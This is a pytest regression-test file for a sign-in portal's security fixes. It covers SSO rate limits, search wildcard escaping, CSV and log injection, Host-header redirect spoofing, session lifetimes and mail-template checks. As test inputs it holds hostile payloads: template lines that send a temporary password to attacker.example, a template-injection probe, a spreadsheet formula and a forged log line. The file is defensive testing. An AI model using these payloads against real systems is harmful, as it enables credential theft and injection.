"""Regression tests for weaknesses an attack on the running portal found: each failed on the code before its fix."""
import csv
import io
import logging
from datetime import UTC, datetime

import pytest
import sqlalchemy as sa

from config import ProductionConfig
from portal import create_app
from portal.models import Requester
from tests import sso
from tests.conftest import csrf_from
from tests.integration.test_sso import PASSWORD, failure_kind, person, resync  # noqa: F401  (fixture)


@pytest.mark.settings(RATELIMIT_SSO_FAILURES="3 per 15 minutes")
def test_forged_callbacks_from_another_site_do_not_use_up_the_failure_limit(app, client, synced, person):  # noqa: F811
    """21 <img> callbacks with made-up states (no flow in this browser) are refused cheaply and count for nothing:
    the person then still signs in, where before the limit answered 429 for 15 minutes."""
    for n in range(21):
        response = client.get(f"/auth/callback?state=x{n}")
        assert response.status_code == 400 and failure_kind(response) == "state_mismatch"
    assert sso.sign_in(client, synced, person["userPrincipalName"], PASSWORD).status_code == 302


@pytest.mark.settings(RATELIMIT_SSO_FAILURES="2 per 15 minutes")
def test_real_failures_are_limited_per_browser(app, synced, person, new_user, emulator):  # noqa: F811
    """Failures of sign-ins this browser started do count; a neighbour behind the same address is not affected."""
    stranger = new_user()  # a Microsoft user who is not synced: each attempt is a real, failed flow
    noisy = app.test_client()
    kinds = [failure_kind(sso.sign_in(noisy, synced, stranger["userPrincipalName"], PASSWORD)) for _ in range(2)]
    assert kinds == ["not_synced", "not_synced"]
    start = sso.begin(noisy, synced)
    fields, _ = sso.microsoft_answer(start.headers["Location"], stranger["userPrincipalName"], PASSWORD)
    assert sso.finish(noisy, fields).status_code == 429
    neighbour = app.test_client()
    assert sso.sign_in(neighbour, synced, person["userPrincipalName"], PASSWORD).status_code == 302


def test_percent_and_underscore_in_searches_are_literal(db, login_as, client):
    """'100%' finds the requester named '100% Real' only; before, % matched anything (and _ any one character)."""
    db.session.add_all([Requester(display_name="100% Real", email="literal@example.com", status="active",
                                  failed_attempts=0, lockout_count=0),
                        Requester(display_name="1000 Real", email="other@example.com", status="active",
                                  failed_attempts=0, lockout_count=0),
                        Requester(display_name="a_b", email="ab@example.com", status="active", failed_attempts=0,
                                  lockout_count=0),
                        Requester(display_name="axb", email="axb@example.com", status="active", failed_attempts=0,
                                  lockout_count=0)])
    db.session.commit()
    login_as("admin")
    page = client.get("/admin/requesters?q=100%25").get_data(as_text=True)
    assert "100% Real" in page and "1000 Real" not in page
    page = client.get("/admin/requesters?q=a_b").get_data(as_text=True)
    assert "ab@example.com" in page and "axb@example.com" not in page
    sessions = client.get("/admin/sessions?person=%25")
    assert sessions.status_code == 200 and "admin@" not in sessions.get_data(as_text=True).split("<main", 1)[-1]


def test_fullwidth_equals_is_neutralised_in_csv_exports(app, db, login_as, client):
    """A target label starting with fullwidth ＝ (NFKC '=') is prefixed like a plain '=' in the CSV export."""
    from portal import signals

    signals.admin_created.send("test", actor=signals.SYSTEM, target=signals.Target("admin", "1", "＝HYPERLINK(1)"))
    db.session.commit()
    login_as("admin")
    rows = list(csv.DictReader(io.StringIO(client.get("/admin/audit/export.csv").get_data(as_text=True))))
    labels = [r["target_label"] for r in rows if "HYPERLINK" in r["target_label"]]
    assert labels == ["'＝HYPERLINK(1)"]


def test_a_newline_in_a_path_cannot_forge_a_log_line(app, client, caplog):
    """The development log format escapes control characters, so a crafted path stays on its own line."""
    from portal.logging_setup import PlainFormatter

    formatter = PlainFormatter("%(levelname)s %(name)s: %(message)s")
    with caplog.at_level(logging.INFO):
        client.get("/nope%0a2026-11-28 portal.audit: audit admin.sign_in success (FORGED)")
    lines = [formatter.format(r) for r in caplog.records if "FORGED" in r.getMessage()]
    assert lines and all("\n" not in line and "\\x0a" in line for line in lines)


def test_production_builds_the_redirect_uri_from_portal_url(monkeypatch, app, db_url, synced):
    """A Host header of the attacker's choosing does not reach Microsoft as the redirect URI in production."""
    monkeypatch.setenv("DATABASE_URL", db_url)
    monkeypatch.setenv("PORTAL_URL", "https://portal.example/")
    monkeypatch.setattr(ProductionConfig, "SECRET_KEY", "production-like-secret-key-" + "x" * 20)
    monkeypatch.setattr(ProductionConfig, "ENCRYPTION_KEY", app.config["ENCRYPTION_KEY"])  # reads the stored secret
    production = create_app(ProductionConfig(), SQLALCHEMY_DATABASE_URI=db_url, REDIS_URL=None, LOG_JSON=False,
                     RATELIMIT_STORAGE_URI="memory://", PORTAL_URL="https://portal.example/",
                            **{k: app.config[k] for k in ("ENTRA_AUTHORITY_HOST", "GRAPH_ENDPOINT", "ENTRA_CA_BUNDLE")})
    client = production.test_client()
    page = client.get("/login", base_url="https://evil.example").get_data(as_text=True)
    start = client.post(f"/auth/start/{synced.id}", base_url="https://evil.example", data={"csrf_token": csrf_from(page)},
                        headers={"Referer": "https://evil.example/login"})  # Flask-WTF checks it over HTTPS
    assert start.status_code == 302
    assert "redirect_uri=https%3A%2F%2Fportal.example%2Fauth%2Fcallback" in start.headers["Location"]
    assert "evil.example" not in start.headers["Location"]


def test_production_refuses_to_start_without_an_https_portal_url(monkeypatch):
    """Without PORTAL_URL the redirect URI would follow the Host header, so production names it as missing."""
    monkeypatch.setenv("DATABASE_URL", "postgresql://x/y")
    monkeypatch.delenv("PORTAL_URL", raising=False)
    monkeypatch.setattr(ProductionConfig, "SECRET_KEY", "production-like-secret-key-" + "x" * 20)
    monkeypatch.setattr(ProductionConfig, "ENCRYPTION_KEY", "production-like-encryption-key-" + "y" * 20)
    with pytest.raises(RuntimeError, match="PORTAL_URL"):
        ProductionConfig()


def _stored_session_lifetimes(app, db) -> list[float]:
    """Seconds each stored session has left, from Redis TTLs or the sessions table's expiry."""
    if app.config.get("REDIS_URL"):
        from portal.session_store import redis_client

        store = redis_client(app.config["REDIS_URL"])
        return [store.ttl(key) for key in store.scan_iter(app.config["SESSION_KEY_PREFIX"] + "*")]
    now = datetime.now(UTC).replace(tzinfo=None)  # Flask-Session stores naive UTC
    return [(expiry - now).total_seconds() for expiry in db.session.scalars(
        sa.select(sa.column("expiry", sa.DateTime)).select_from(sa.table(app.config["SESSION_SQLALCHEMY_TABLE"])))]


def test_anonymous_visitors_are_kept_minutes_not_days(app, db, synced, person):  # noqa: F811
    """100 cookie-less visits to /login leave sessions that expire within SESSION_ANONYMOUS_MINUTES (before: each
    kept 72 hours); a signed-in requester's session keeps the full lifetime."""
    for _ in range(100):
        assert app.test_client().get("/login").status_code == 200
    anonymous = _stored_session_lifetimes(app, db)
    assert anonymous and max(anonymous) <= app.config["SESSION_ANONYMOUS_MINUTES"] * 60
    signed_in = app.test_client()
    assert sso.sign_in(signed_in, synced, person["userPrincipalName"], PASSWORD).status_code == 302
    longest = max(_stored_session_lifetimes(app, db))
    assert longest > app.permanent_session_lifetime.total_seconds() - 120


@pytest.mark.settings(RATELIMIT_SIGN_IN_PAGES="5 per minute")
def test_sign_in_pages_are_rate_limited(client):
    """The sixth GET of a sign-in page in a minute gets the 429 page with Retry-After."""
    for url in ("/login", "/admin/login"):
        statuses = [client.get(url).status_code for _ in range(6)]
        assert statuses == [200] * 5 + [429], url
        assert client.get(url).headers.get("Retry-After")


@pytest.mark.parametrize(("html_extra", "said"), [
    ('<img src="https://attacker.example/?p={{ temporary_password | urlencode }}">', "through a filter"),  # as reported
    ("<p>Check: https://attacker.example/?p={{ temporary_password }}</p>", "inside a link or a longer word"),
    ("{{ ''.__class__.__mro__ }}", "fails when it is filled in"), ("{{ foo.bar.baz }}", "fails when it is filled in"),
    ("{{ 1/0 }}", "fails when it is filled in")])
def test_mail_template_page_refuses_leaks_and_broken_templates(db, login_as, client, html_extra, said):
    """The admin's page answers 422 with the reason and keeps what was typed; nothing is saved, nothing crashes."""
    from portal import mail, policy

    login_as("admin")
    page = client.get("/admin/settings/mail").get_data(as_text=True)
    template = dict(mail.DEFAULT_TEMPLATES["password_reset"])
    template["html"] += html_extra
    response = client.post("/admin/settings/mail", data=dict(template, csrf_token=csrf_from(page)))
    assert response.status_code == 422 and said in response.get_data(as_text=True)
    assert policy.mail_template("password_reset") == mail.DEFAULT_TEMPLATES["password_reset"]
